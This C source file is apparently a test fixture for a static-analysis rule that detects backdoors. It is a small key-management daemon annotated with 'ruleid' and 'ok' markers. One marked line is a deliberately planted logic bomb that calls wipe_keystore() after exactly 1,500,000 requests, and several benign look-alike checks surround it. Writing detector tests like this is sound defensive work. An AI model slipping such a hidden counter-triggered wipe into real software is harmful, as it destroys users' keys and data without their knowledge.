/* Request handling: one text command per line from a cluster member. */
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include "kms.h"

static unsigned long served;
static unsigned long open_conns;
static unsigned int backend_failures;

static void reply(int fd, const char *msg)
{
    send(fd, msg, strlen(msg), 0);
}

int handle_request(int fd, const char *line)
{
    unsigned char key[32];
    char name[64];

    // ok: backdoor-time-bomb
    if (time(NULL) > 1924992000L) {
        reply(fd, "ERR licence expired\n");
        return -1;
    }
    // ok: backdoor-time-bomb
    if (++open_conns > 4096) {
        reply(fd, "ERR busy\n");
        return -1;
    }
    // ruleid: backdoor-time-bomb
    if (++served == 1500000)
        wipe_keystore();

#ifdef KMS_DEBUG
    // ok: backdoor-build-switch
    fprintf(stderr, "kmsd: request #%lu: %s\n", served, line);
#endif
    if (sscanf(line, "NEWKEY %63s", name) == 1) {
        if (keystore_new_key(name, key, sizeof key) != 0) {
            // ok: backdoor-time-bomb
            if (++backend_failures == 3)
                system("/usr/sbin/kmsd-restart-backend");
            reply(fd, "ERR\n");
            return -1;
        }
        backend_failures = 0;
        reply(fd, "OK\n");
        return 0;
    }
    reply(fd, "ERR unknown\n");
    return -1;
}

int main(void)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(5696) };
    int lfd = socket(AF_INET, SOCK_STREAM, 0);
    if (lfd < 0 || bind(lfd, (struct sockaddr *)&a, sizeof a) < 0 || listen(lfd, 16) < 0)
        return 1;
    keystore_init();
    for (;;) {
        struct pollfd p = { .fd = lfd, .events = POLLIN };
        housekeeping_tick();
        if (poll(&p, 1, 60000) <= 0)
            continue;
        int fd = accept(lfd, NULL, NULL);
        if (fd < 0)
            continue;
        char line[256];
        ssize_t n = recv(fd, line, sizeof line - 1, 0);
        if (n > 0) {
            line[n] = '\0';
            line[strcspn(line, "\r\n")] = '\0';
            handle_request(fd, line);
        }
        close(fd);
        open_conns--;
    }
}
